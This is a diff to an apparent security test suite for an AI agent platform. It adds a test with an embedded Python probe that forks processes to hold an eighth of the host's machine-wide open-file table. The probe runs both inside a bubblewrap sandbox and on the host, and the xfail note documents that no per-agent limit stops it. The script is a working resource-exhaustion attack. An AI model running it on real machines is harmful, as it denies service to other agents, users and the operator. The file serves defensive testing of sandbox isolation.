@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import shutil
 from pathlib import Path
 
 import pytest
@@ -11,6 +12,10 @@ from tests.attacks.harness import attempt
 
 # The agent's command runs unasked (security = "full"): what its run can reach is the view's business.
 FULL = '[tools.exec]\nhost = "gateway"\nsecurity = "full"\nask = "off"\n'
+BWRAP = (
+    '[tools.exec]\nhost = "sandbox"\nsecurity = "full"\nask = "off"\n'
+    '[agents.defaults.sandbox]\nmode = "all"\nbackend = "bwrap"\n'
+)
 PY = "/usr/bin/python3"
 
 
@@ -68,5 +73,72 @@ async def test_class1_a_root_host_run_acts_on_the_whole_machine(state_dir: Path,
     probe = state_dir.parent / "probe.py"
     probe.write_text(_MACHINE_WIDE[what])
     details = await attempt(state_dir, f"{PY} {probe}", config=FULL)
+    assert details["status"] == "completed", details
+    assert "SAFE" in details["_text"], details["_text"]
+
+
+# Opens an eighth of the host's open-file table (fs.file-max, one count for the whole machine) and holds it:
+# each child raises its soft nofile to the hard limit, opens /dev/null (a new struct file each time: dup
+# would share one) up to it, reports, and holds until the parent has counted every child.
+_FILE_TABLE = """
+import os, resource
+file_max = int(open("/proc/sys/fs/file-max").read())
+want = file_max // 8 + 1
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+ready_r, ready_w = os.pipe()
+hold_r, hold_w = os.pipe()
+kids, planned = [], 0
+while planned < want:
+    n = min(hard - 16, want - planned)
+    pid = os.fork()
+    if pid == 0:
+        os.close(hold_w)
+        os.close(ready_r)
+        got = 0
+        try:
+            for _ in range(n):
+                os.open("/dev/null", os.O_RDONLY)
+                got += 1
+        except OSError:
+            pass
+        os.write(ready_w, got.to_bytes(4, "little"))
+        os.read(hold_r, 1)
+        os._exit(0)
+    kids.append(pid)
+    planned += n
+os.close(ready_w)
+os.close(hold_r)
+held = 0
+for _ in kids:
+    b = b""
+    while len(b) < 4:
+        b += os.read(ready_r, 4 - len(b))
+    held += int.from_bytes(b, "little")
+print("held", held, "of file-max", file_max, "in", len(kids), "processes")
+print("REACHED" if held >= want else "SAFE")
+os.close(hold_w)
+for k in kids:
+    os.waitpid(k, 0)
+"""
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="open: no run has a share of the host's open-file table (fs.file-max, one count for the whole "
+    "machine, no namespace or cgroup divides it): a bwrap sandbox's defaults (nofile hard 8192 x pidsLimit "
+    "512 = 4.2M) exceed the whole table (2.47M here), and a host run's (the gateway's nofile x pid_max/4) "
+    "too; one agent's run held an eighth of it (the whole takes a few more processes), after which every "
+    "process without CAP_SYS_ADMIN (other agents' sandboxes, a non-root gateway, the operator's programs) "
+    "gets ENFILE on each open. Closing the class: a per-agent budget, nofile x pids within the agent's "
+    "share of fs.file-max, as RAM and disk have shares",
+)
+@pytest.mark.skipif(not os.path.exists(PY), reason="the probe runs python3")
+@pytest.mark.parametrize("where", ["bwrap-sandbox", "host"])
+async def test_class3_one_agents_run_takes_the_hosts_open_file_table(state_dir: Path, where: str) -> None:
+    if where == "bwrap-sandbox" and shutil.which("bwrap") is None:
+        pytest.skip("bubblewrap is not installed")
+    script = "cat > /tmp/filetable.py <<'PYEOF'\n" + _FILE_TABLE + "PYEOF\npython3 /tmp/filetable.py"
+    details = await attempt(state_dir, script, config=BWRAP if where == "bwrap-sandbox" else FULL)
     assert details["status"] == "completed", details
     assert "SAFE" in details["_text"], details["_text"]
